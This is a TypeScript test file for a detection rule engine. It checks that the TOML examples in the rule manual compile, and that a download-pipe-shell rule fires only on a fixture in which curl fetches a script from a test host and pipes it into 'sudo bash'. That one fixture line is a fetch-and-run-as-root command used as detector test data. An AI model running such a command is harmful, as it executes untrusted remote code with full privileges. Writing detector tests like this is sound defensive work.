/** The TOML examples of docs/rule-language.md (the user manual) compile with the rule compiler. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'smol-toml';
import { compileCondition, compileLibrary, compileStep } from '../src/rules/compile.js';
import type { RawCondition, RawException } from '../src/rules/compiled.js';
import { createRecordView, NO_PROCESS_CONTEXT } from '../src/rules/record-view.js';
import { processStart } from './detect-fixtures.js';

const DOC = join(process.cwd(), 'docs/rule-language.md');

function tomlBlocks(): Record<string, unknown>[] {
  const text = readFileSync(DOC, 'utf8');
  return [...text.matchAll(/```toml\n([\s\S]*?)```/g)].map((m) => parse(m[1]!) as Record<string, unknown>);
}

test('docs/rule-language.md: lists, macros, condition rules and sequence steps compile', () => {
  const blocks = tomlBlocks();
  assert.ok(blocks.length >= 3, 'the manual has its TOML examples');
  const withLib = blocks.find((b) => 'lists' in b)!;
  const library = compileLibrary(withLib.lists as Record<string, unknown>, withLib.macros as Record<string, unknown>, DOC);
  let conditions = 0;
  let steps = 0;
  for (const block of blocks) {
    for (const rule of (block.rules ?? []) as Record<string, unknown>[]) {
      const origin = { file: DOC, ruleId: String(rule.id) };
      if (rule.type === 'sequence') {
        for (const step of [...(rule.steps as object[]), ...(rule.until ? [rule.until] : [])]) {
          const raw = step as RawCondition & { by: string[] };
          compileStep({ ...raw, detection: raw.detection ?? {} }, library, origin);
          steps++;
        }
      } else {
        compileCondition(rule as unknown as RawCondition, library, origin, (rule.exceptions ?? []) as RawException[]);
        conditions++;
      }
    }
  }
  assert.ok(conditions >= 1 && steps >= 3, `${conditions} condition rules, ${steps} steps`);
});

test('docs/rule-language.md: the download-pipe example alerts on curl piped into sudo bash only', () => {
  const block = tomlBlocks().find((b) => Array.isArray(b.rules) && (b.rules as { id: string }[])[0]!.id === 'RG-EXEC-DOWNLOAD-PIPE-SHELL')!;
  const rule = (block.rules as unknown as RawCondition[])[0]!;
  const c = compileCondition(rule, { lists: new Map(), macros: new Map() }, { file: DOC, ruleId: 'RG-EXEC-DOWNLOAD-PIPE-SHELL' });
  const curl = { ...processStart({ exe_path: '/usr/bin/curl' }), parent_argv: ['bash', '-c', 'curl -fsSL https://x.test/i.sh | sudo bash'] };
  assert.equal(c.matches(createRecordView(curl, NO_PROCESS_CONTEXT)), true);
  const saved = { ...curl, parent_argv: ['bash', '-c', 'curl -fsSL https://x.test/i.sh > i.sh'] };
  assert.equal(c.matches(createRecordView(saved, NO_PROCESS_CONTEXT)), false);
});
